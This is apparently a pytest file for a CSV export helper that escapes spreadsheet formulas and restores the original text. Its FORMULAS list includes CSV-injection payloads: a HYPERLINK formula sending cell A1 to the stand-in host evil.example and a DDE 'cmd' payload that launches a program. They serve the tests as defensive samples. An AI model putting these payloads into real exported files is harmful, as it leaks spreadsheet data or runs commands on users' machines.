"""No cell of a table is a formula, and every text comes back as it was."""

import csv

import pandas as pd
import pytest

from isomorph.artefacts.cells import with_formulas, without_formulas
from isomorph.errors import IsomorphError

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"see")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
    "\t=1", "＝1+1", "=1\n+1",
]  # fmt: skip
PLAIN = ["face", "", "-1", "+2.5", "-1e-5", "'quoted'", "a=b", "–150 to 0 ms", "None"]
TURNED = ["'=1", "''-2+3", "'@x", "'-1", "'"]


@pytest.mark.parametrize("cell", [*FORMULAS, *PLAIN, *TURNED])
def test_every_text_comes_back(cell, tmp_path):
    table = pd.DataFrame({"stimulus": [cell, "x"], "rate": [-1.5, 2.0]})
    without_formulas(table).to_csv(tmp_path / "a.csv", index=False)
    read = pd.read_csv(tmp_path / "a.csv", dtype={"stimulus": str}, keep_default_na=False)
    pd.testing.assert_frame_equal(with_formulas(read), table, check_dtype=False)


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_begins_like_a_formula(cell, tmp_path):
    table = pd.DataFrame({cell: [cell], "rate": [-1.5]})
    without_formulas(table).to_csv(tmp_path / "a.csv", index=False)
    with open(tmp_path / "a.csv", newline="") as file:
        for row in csv.reader(file):
            assert row[0][0] == "'"
    assert pd.read_csv(tmp_path / "a.csv")["rate"].tolist() == [-1.5]


@pytest.mark.parametrize("cell", PLAIN)
def test_what_is_no_formula_is_written_as_it_is(cell):
    table = pd.DataFrame({"a": [cell], "n": pd.Series([1], dtype="Int64")})
    pd.testing.assert_frame_equal(without_formulas(table), table)


def test_a_carriage_return_is_refused():
    with pytest.raises(IsomorphError, match="holds a carriage return"):
        without_formulas(pd.DataFrame({"a": ["x\ry"]}))
